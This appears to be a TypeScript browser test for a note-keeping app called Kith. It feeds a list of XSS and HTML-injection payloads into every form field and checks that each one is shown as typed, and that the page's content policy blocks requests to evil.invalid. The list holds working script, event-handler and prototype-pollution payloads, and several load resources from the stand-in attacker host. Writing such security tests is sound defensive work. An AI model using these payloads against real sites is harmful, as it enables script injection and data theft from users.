import assert from "node:assert/strict";
import { Kith } from "../src/kith.ts";
import { test } from "../src/tap.ts";
import { word } from "../src/words.ts";
import { inWorld } from "../src/world.ts";

/** What somebody might type, paste or be sent, that a careless page would run, load or break on. */
const INJECTIONS = [
  `<script>alert(1)</script>`,
  `"><script>alert(1)</script>`,
  `'><script src=//evil.invalid/x.js></script>`,
  `</textarea><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `<!--><script>alert(1)</script>-->`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>`,
  `<script type=module>import("https://evil.invalid/x.js")</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://evil.invalid/pixel.png">`,
  `<img srcset="https://evil.invalid/pixel.png 1x">`,
  `"><img src=x onerror="fetch('https://evil.invalid/')">`,
  `<svg onload=alert(1)>`,
  `<svg><script href="data:text/javascript,alert(1)" /></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><use href="https://evil.invalid/x.svg#a" /></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="https://evil.invalid/"></iframe>`,
  `<object data="https://evil.invalid/x.swf"></object>`,
  `<embed src="https://evil.invalid/x.swf">`,
  `<link rel=stylesheet href="https://evil.invalid/x.css">`,
  `<link rel=prefetch href="https://evil.invalid/">`,
  `<link rel=dns-prefetch href="//evil.invalid">`,
  `<style>@import "https://evil.invalid/x.css";</style>`,
  `<style>*{background:url(https://evil.invalid/x.png)}</style>`,
  `<div style="background:url(https://evil.invalid/x.png)">`,
  `<base href="https://evil.invalid/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.invalid/">`,
  `<form action="https://evil.invalid/"><button>Keep</button></form>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<a href="javascript:alert(1)">Keep</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">Keep</a>`,
  `javascript:alert(1)`,
  `{{constructor.constructor('alert(1)')()}}`,
  "${alert(1)}`${alert(1)}`",
  `';alert(1);//`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `{"__proto__":{"polluted":true}}`,
  `\u202e<script>alert(1)</script>\u2066`,
  `<p>\u0000<scr\u0000ipt>alert(1)</script>`,
  `<template><script>alert(1)</script></template>`,
  `<portal src="https://evil.invalid/">`,
];

/** Words that try to become code stay words (P9). */
export async function hostileWords(): Promise<void> {
  await test(`P9: ${INJECTIONS.length} injections in every field are shown as they were typed, and nothing else happens`, () =>
    inWorld(async (world) => {
      const browser = await world.open();
      const page = await browser.page();
      page.on("dialog", (dialog) => browser.guard.violations.push(`a dialog said ${dialog.message()}`));
      const kith = new Kith(page);
      await kith.visit(world.origin);
      await kith.begin(`<img src=x onerror=alert(1)> as a passphrase`);
      const at = (index: number): string => INJECTIONS[index % INJECTIONS.length] ?? "";
      for (let index = 0; index < INJECTIONS.length; index += 6) {
        const goal = {
          title: at(index),
          why: at(index + 1),
          steps: [at(index + 2), at(index + 3)],
          state: at(index + 4),
          notes: at(index + 5),
        };
        await kith.writeGoal(goal);
        await kith.openGoal(goal.title);
        for (const text of [goal.title, goal.why, ...goal.steps, goal.state, goal.notes]) {
          await kith.text(shown(text)).first().waitFor();
        }
      }
      for (let index = 0; index < INJECTIONS.length; index += 2) {
        await kith.keepHopeNote({ text: at(index), from: at(index + 1), pinned: true, hardMoments: true });
        await kith
          .text(shown(at(index)))
          .first()
          .waitFor();
      }
      for (let index = 0; index < INJECTIONS.length; index += 7) {
        const [name, how, goodFor] = [at(index), at(index + 1), at(index + 6)];
        const ways = [
          { kind: { own: at(index + 2) }, value: at(index + 3) },
          { kind: "phone", value: at(index + 4) },
          { kind: "email", value: at(index + 5) },
        ] as const;
        await kith.addPerson({ name, how, ways, goodFor });
        await kith.openPerson(name.split("\u0000").at(-1) ?? name);
        for (const text of [how, at(index + 2), at(index + 3), at(index + 4), at(index + 5), goodFor]) {
          await kith.text(shown(text)).first().waitFor();
        }
      }
      for (let index = 0; index < INJECTIONS.length; index += 2) {
        await kith.settings("about");
        await kith.field("about.name").fill(at(index));
        await kith.field("about.about").fill(at(index + 1));
        await kith.press("act.keep");
        await kith.text(word("said.saved")).waitFor();
      }
      const found = page.getByRole("list", { name: word("search.list") });
      for (const text of INJECTIONS) {
        // What has no letter of its own is found by nobody; everything else is, and is shown as it was typed.
        const part = shown(text).trim().split(/\s/)[0] ?? "";
        await kith.search(part);
        await found.getByText(part).first().waitFor();
      }
      await kith.goTo("today");
      assert.equal(await page.evaluate("({}).polluted"), undefined);
      assert.equal(await page.title(), "Kith");
      assert.equal(page.url(), `${world.origin}/`);
      browser.guard.assertQuiet();
    }));

  await test("P9 control: what the page's policy refuses is seen", () =>
    inWorld(async (world) => {
      const browser = await world.open();
      const page = await browser.page();
      await page.goto(world.origin);
      await page
        .evaluate(() => {
          const script = document.createElement("div");
          script.innerHTML = "<p>refused by Trusted Types</p>";
        })
        .catch(() => undefined);
      await page.evaluate(() => fetch("https://evil.invalid/").catch(() => undefined));
      await page.evaluate(() => {
        const image = document.createElement("img");
        image.src = "https://evil.invalid/pixel.png";
        document.body.append(image);
      });
      const seen = browser.guard.violations.join("\n");
      for (const refused of ["require-trusted-types-for", "connect-src", "img-src"]) {
        assert.match(seen, new RegExp(refused), `what ${refused} refused was not seen`);
      }
    }));
}

/** The part of a text by which a screen is searched: no search finds a NUL. */
function shown(text: string): string {
  return text.split("\u0000").at(-1) ?? text;
}
